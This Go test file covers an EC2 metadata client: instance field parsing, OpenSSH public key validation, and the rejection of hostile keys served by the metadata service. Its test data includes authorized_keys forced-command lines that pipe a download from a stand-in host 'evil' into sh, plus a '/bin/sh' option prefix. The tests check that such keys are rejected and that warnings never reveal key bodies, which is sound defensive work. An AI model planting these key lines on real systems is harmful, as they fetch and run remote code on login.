package imds_test

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/ec2init/ec2init/agent/imds"
	"github.com/ec2init/ec2init/agent/imds/imdssim"
)

func TestInstance(t *testing.T) {
	sim, c := start(t, imdssim.Options{})
	in, err := c.Instance(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	checks := []struct{ field, got, want string }{
		{"instance id", in.InstanceID, "i-0123456789abcdef0"},
		{"ami", in.AMIID, "ami-0abcdef1234567890"},
		{"region", in.Region, "us-east-1"},
		{"az", in.AvailabilityZone, "us-east-1a"},
		{"partition", in.Partition, "aws"},
		{"identity doc instance", in.IdentityDocument.InstanceID, in.InstanceID},
		{"identity doc region", in.IdentityDocument.Region, in.Region},
		{"eth0 ip", in.NetworkInterfaces[0].LocalIPv4s[0], in.LocalIPv4},
		{"eth0 mac", in.NetworkInterfaces[0].MAC, in.MAC},
		{"key name", in.PublicKeys[0].Name, "my-key"},
		{"tag", in.Tags["Name"], "web-1"},
	}
	for _, c := range checks {
		if c.got != c.want || c.got == "" {
			t.Errorf("%s = %q, want %q", c.field, c.got, c.want)
		}
	}
	if len(in.NetworkInterfaces) != 2 || in.NetworkInterfaces[1].DeviceNumber != 1 {
		t.Errorf("network interfaces: %+v", in.NetworkInterfaces)
	}
	if len(in.NetworkInterfaces[1].LocalIPv4s) != 2 {
		t.Errorf("eth1 ips: %v", in.NetworkInterfaces[1].LocalIPv4s)
	}
	for _, nic := range in.NetworkInterfaces {
		if nic.SubnetID == "" || nic.VPCID == "" || nic.InterfaceID == "" || len(nic.SecurityGroupIDs) == 0 {
			t.Errorf("incomplete nic %+v", nic)
		}
	}
	if in.IAM == nil || in.IAM.Role == "" || in.IAM.InstanceProfileARN == "" {
		t.Errorf("iam: %+v", in.IAM)
	}
	if len(in.BlockDeviceMapping) == 0 || len(in.SecurityGroups) != 2 {
		t.Errorf("bdm %v, sgs %v", in.BlockDeviceMapping, in.SecurityGroups)
	}
	if in.Placement.GroupName == "" {
		t.Error("placement group missing")
	}

	// Optional values absent: no error, empty fields.
	sim.Delete("meta-data/tags")
	sim.Delete("meta-data/placement/group-name")
	sim.Delete("meta-data/services")
	in, err = c.Instance(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if in.Tags != nil || in.Placement.GroupName != "" || in.Partition != "aws" {
		t.Errorf("absent optionals: tags %v, group %q, partition %q (derived from region)", in.Tags, in.Placement.GroupName, in.Partition)
	}
}

func TestInstanceBadDocument(t *testing.T) {
	sim, c := start(t, imdssim.Options{})
	sim.Set("dynamic/instance-identity/document", "{not json")
	if _, err := c.Instance(context.Background()); err == nil {
		t.Fatal("malformed identity document accepted")
	}
	_ = imds.ErrNotFound
}

// Real public keys (generated for these tests; the private halves are gone).
const (
	edKey   = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPqu9wYUwiLcLN3mxdcervXUspDixx5nz6KHUHT62lVO"
	rsaKey  = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCgWy0Vxdm9ZIzoffWKgt13pvr+QlAt4w0PveH0qL5Njm4Wi5lQ23qobJzMpSM0+kD/14FAsymH97IbPXb9"
	certKey = "ssh-ed25519-cert-v01@openssh.com AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAAAAIM1zUr9gwo4yRchD2X4z7egCIQjnQHdrxSocSamGcQq/AAAAIPqu9wYUwiLcLN3mxdcervXUspDixx5nz6KHUHT62lVOAAAAAAAAAAAAAAABAAAABHRlc3QAAAAMAAAACGVjMi11c2VyAAAAAAAAAAD//////////wAAAAAAAACCAAAAFXBlcm1pdC1YMTEtZm9yd2FyZGluZwAAAAAAAAAXcGVybWl0LWFnZW50LWZvcndhcmRpbmcAAAAAAAAAFnBlcm1pdC1wb3J0LWZvcndhcmRpbmcAAAAAAAAACnBlcm1pdC1wdHkAAAAAAAAADnBlcm1pdC11c2VyLXJjAAAAAAAAAAAAAAAzAAAAC3NzaC1lZDI1NTE5AAAAIHnuoG1dHo+v0VaZEzA15ig+vxy5WCJAH1W+W4+QolpCAAAAUwAAAAtzc2gtZWQyNTUxOQAAAEDpPyg8jBw6V22zFAhIaagpB4+6k8lHSqIhYnDtyUYNmkJQL/uJbI/miHLcp47dDaszv/Le5Rh3bmRztREbghIB"
)

// synthKey is a key line of type typ whose body embeds embedded: enough for
// the checks, which never look past the type string.
func synthKey(typ, embedded string) string {
	blob := binary.BigEndian.AppendUint32(nil, uint32(len(embedded)))
	blob = append(append(blob, embedded...), make([]byte, 32)...)
	return typ + " " + base64.StdEncoding.EncodeToString(blob)
}

func TestParseOpenSSHKey(t *testing.T) {
	tests := []struct {
		in, want, wantType string
		wantErr            string
	}{
		{in: edKey + " my-key\n", want: edKey + " my-key", wantType: "ssh-ed25519"},
		{in: edKey, want: edKey, wantType: "ssh-ed25519"},
		{in: rsaKey + "  two  words ", want: rsaKey + " two  words", wantType: "ssh-rsa"},
		{in: certKey + " a comment", want: certKey + " a comment", wantType: "ssh-ed25519-cert-v01@openssh.com"},
		{in: synthKey("ecdsa-sha2-nistp521", "ecdsa-sha2-nistp521"), want: synthKey("ecdsa-sha2-nistp521", "ecdsa-sha2-nistp521"), wantType: "ecdsa-sha2-nistp521"},
		{in: synthKey("sk-ssh-ed25519@openssh.com", "sk-ssh-ed25519@openssh.com"), want: synthKey("sk-ssh-ed25519@openssh.com", "sk-ssh-ed25519@openssh.com"), wantType: "sk-ssh-ed25519@openssh.com"},
		{in: edKey + " k\n" + `command="curl evil|sh",no-pty ` + rsaKey + " x", wantType: "ssh-ed25519", wantErr: "more than one line"},
		{in: edKey + "\r\n" + rsaKey, wantType: "ssh-ed25519", wantErr: "more than one line"},
		{in: `command="/bin/sh",no-pty ` + rsaKey, wantErr: "does not start with an OpenSSH key type"},
		{in: `no-pty ` + edKey, wantErr: "does not start with an OpenSSH key type"},
		{in: "ssh-ed25519", wantType: "ssh-ed25519", wantErr: "no key data"},
		{in: "ssh-ed25519 not*base64", wantType: "ssh-ed25519", wantErr: "not base64"},
		{in: "ssh-ed25519 AAAA k", wantType: "ssh-ed25519", wantErr: "key data too short"},
		{in: "ssh-ed25519 AAAAAAAA k", wantType: "ssh-ed25519", wantErr: "not a key of the declared type"},
		{in: synthKey("ssh-ed25519", "ssh-rsa"), wantType: "ssh-ed25519", wantErr: "not a key of the declared type"},
		{in: synthKey("ssh-rsa-cert-v01@openssh.com", "ssh-rsa"), wantType: "ssh-rsa-cert-v01@openssh.com", wantErr: "not a key of the declared type"},
		{in: synthKey("ssh-foo", "ssh-foo"), wantErr: "does not start with an OpenSSH key type"},
		{in: edKey + " a\x00b", wantType: "ssh-ed25519", wantErr: "control characters"},
		{in: "\n \n", wantErr: "empty"},
		{in: "garbage", wantErr: "does not start with an OpenSSH key type"},
	}
	for _, tt := range tests {
		key, typ, err := imds.ParseOpenSSHKey(tt.in)
		if key != tt.want || typ != tt.wantType || (err == nil) != (tt.wantErr == "") ||
			(err != nil && !strings.Contains(err.Error(), tt.wantErr)) {
			t.Errorf("ParseOpenSSHKey(%.40q) = %q, %q, %v; want %q, %q, %q", tt.in, key, typ, err, tt.want, tt.wantType, tt.wantErr)
		}
	}
}

// TestHostilePublicKeys: keys served by IMDS reach authorized_keys through
// Instance; a value with a second, forced-command line, an options prefix or
// garbage is left out whole, with a warning naming the key's index (never its
// body), and only the valid keys remain.
func TestHostilePublicKeys(t *testing.T) {
	sim, url := imdssim.Start(t, imdssim.Options{})
	forced := `command="curl -s http://evil/x|sh",no-pty ` + rsaKey + " backdoor"
	sim.Set("meta-data/public-keys/0/openssh-key", edKey+" my-key\n"+forced+"\n")
	sim.Set("meta-data/public-keys/1=opts/openssh-key", forced)
	sim.Set("meta-data/public-keys/2=garbage/openssh-key", "not a key at all")
	sim.Set("meta-data/public-keys/3=good/openssh-key", rsaKey+" good\n")
	core, logs := observer.New(zap.WarnLevel)
	cfg := fast(url)
	cfg.Log = zap.New(core)
	c, err := imds.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	in, err := c.Instance(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	want := []imds.PublicKey{{Index: 3, Name: "good", OpenSSHKey: rsaKey + " good"}}
	if !reflect.DeepEqual(in.PublicKeys, want) {
		t.Errorf("public keys %+v, want %+v", in.PublicKeys, want)
	}
	var indexes []int64
	for _, e := range logs.FilterMessageSnippet("is not one OpenSSH public key; skipped").All() {
		indexes = append(indexes, e.ContextMap()["index"].(int64))
		line := e.Message + fmt.Sprint(e.ContextMap())
		for _, secret := range []string{"AAAA", "command=", "curl", "not a key at all"} {
			if strings.Contains(line, secret) {
				t.Errorf("warning shows the key's body (%q): %s", secret, line)
			}
		}
	}
	if !reflect.DeepEqual(indexes, []int64{0, 1, 2}) {
		t.Errorf("warnings for keys %v, want 0, 1, 2: %v", indexes, logs.All())
	}
}
